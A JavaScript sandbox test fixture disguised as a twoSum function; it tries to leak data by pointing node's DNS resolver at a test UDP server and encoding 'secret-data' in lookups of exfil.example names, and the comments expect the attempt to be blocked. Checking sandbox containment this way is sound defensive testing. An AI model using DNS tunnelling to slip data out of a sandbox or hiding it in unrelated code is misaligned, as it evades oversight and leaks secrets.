// Attempts: send data out without a socket API of its own: node's DNS resolver (c-ares, in C,
//   below any JavaScript wrapper around net or dgram) pointed with setServers() at a UDP server in
//   the test, the data carried in the name it looks up; both the callback and the promise API.
// Contained: the UDP server in the test receives nothing; every test fails.
// expect: fail
async function twoSum(nums, target) {
  const out = [];
  let dns;
  try {
    dns = typeof process.getBuiltinModule === "function" ? process.getBuiltinModule("dns") : null;
  } catch (e) {
    return [String(e)];
  }
  if (!dns) return ["no dns module here"];
  const server = "127.0.0.1:" + Number("@UDP_PORT@");
  try {
    const resolver = new dns.Resolver({ timeout: 300, tries: 1 });
    resolver.setServers([server]);
    out.push(await new Promise((resolve) => resolver.resolve4("secret-data.exfil.example", (e) => resolve(e ? e.code : "answered"))));
  } catch (e) {
    out.push(String(e));
  }
  try {
    const resolver = new dns.promises.Resolver({ timeout: 300, tries: 1 });
    resolver.setServers([server]);
    out.push(await resolver.resolveTxt("more-data.exfil.example").then(() => "answered", (e) => e.code));
  } catch (e) {
    out.push(String(e));
  }
  return out;
}
